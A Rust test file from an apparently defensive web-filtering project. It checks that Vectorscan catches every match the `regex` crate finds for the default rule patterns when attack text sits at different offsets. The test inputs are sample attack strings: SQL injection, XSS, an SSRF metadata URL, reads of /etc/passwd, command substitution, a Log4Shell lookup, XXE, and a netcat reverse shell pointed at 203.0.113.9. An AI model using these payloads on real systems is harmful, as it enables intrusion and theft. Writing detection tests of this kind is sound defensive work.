//! Vectorscan against the `regex` crate on the default ruleset's patterns,
//! compiled as the engine compiles them, with each attack string placed
//! after 1 to 201 bytes of other text: every text the `regex` crate
//! matches, Vectorscan must match too.
//!
//! Ignored by default: the Vectorscan of Debian 12 (5.4.9), on a machine
//! with AVX-512, misses some of these matches once about 64 bytes come
//! before them (see the README's known limits). Run it after
//! changing the Vectorscan the dataplane links to:
//! `cargo test -p palisade-dataplane --release -- --ignored offsets`.

use std::collections::BTreeMap;

use hyperscan::prelude::*;
use hyperscan::{BlockMode, Pattern as HsPattern};
use palisade_rules::{load_files, Operator, RuleBody};

use super::default_rule_files;
use crate::engine::gate::Reading;
use crate::engine::pattern::{expression, Expression};

/// Attack strings of the classes the default rules cover, lower case (as
/// the rules' chains leave them).
const ATTACKS: [&str; 16] = [
    "1;drop table users",
    "1; delete from users",
    "1 union select password from users",
    "x' or '1'='1",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "http://169.254.169.254/latest/meta-data/",
    ";cat /etc/passwd",
    "$(id)",
    "a|nc -e /bin/sh 203.0.113.9 4444",
    "../../../../etc/passwd",
    "${jndi:ldap://x.example/a}",
    "php://filter/resource=index.php",
    "<!doctype x [<!entity xxe system \"file:///etc/passwd\">]>",
    "you have an error in your sql syntax",
];

/// The expression the engine compiles for every `regex` test of the
/// default rules, once each.
fn default_patterns() -> Vec<Expression> {
    let ruleset = load_files(&default_rule_files()).expect("the default rules load");
    let mut out: Vec<Expression> = Vec::new();
    for rule in ruleset.iter() {
        let RuleBody::Signature(signature) = &rule.body else {
            continue;
        };
        signature.condition.for_each_test(&mut |test| {
            let regex = matches!(test.operator, Operator::Regex(_));
            let Some(expr) = expression(&test.operator).filter(|_| regex) else {
                return;
            };
            let known = |e: &Expression| e.text == expr.text && e.flags == expr.flags;
            if !out.iter().any(known) {
                out.push(expr);
            }
        });
    }
    out
}

#[test]
#[ignore = "Debian 12's Vectorscan 5.4.9 misses matches past byte 62 on AVX-512 machines"]
fn vectorscan_finds_what_the_regex_crate_finds_at_every_offset() {
    // Per pattern missing some match: how many, and the first one.
    let mut missed: BTreeMap<String, (usize, String)> = BTreeMap::new();
    let patterns = default_patterns();
    assert!(patterns.len() > 50, "the default rules' patterns are read");
    for expr in &patterns {
        let text = &expr.text;
        let db = HsPattern::with_flags(text.clone(), expr.flags)
            .and_then(|p| p.build::<BlockMode>())
            .expect("a default pattern compiles");
        let scratch = db.alloc_scratch().expect("scratch");
        let reading = Reading::of(expr.flags);
        let Ok(reference) = regex::bytes::RegexBuilder::new(text)
            .unicode(false)
            .case_insensitive(reading.caseless)
            .dot_matches_new_line(reading.dotall)
            .multi_line(reading.multiline)
            .build()
        else {
            continue;
        };
        for attack in ATTACKS {
            for n in 0..=200 {
                let subject = format!("{} {attack}", "x".repeat(n));
                if !reference.is_match(subject.as_bytes()) {
                    continue;
                }
                let mut found = false;
                db.scan(subject.as_bytes(), &scratch, |_, _, _, _| {
                    found = true;
                    Matching::Terminate
                })
                .ok();
                if !found {
                    let first = format!("{attack:?} after {} bytes", n + 1);
                    missed.entry(text.clone()).or_insert((0, first)).0 += 1;
                }
            }
        }
    }
    assert!(missed.is_empty(), "patterns missing matches: {missed:#?}");
}
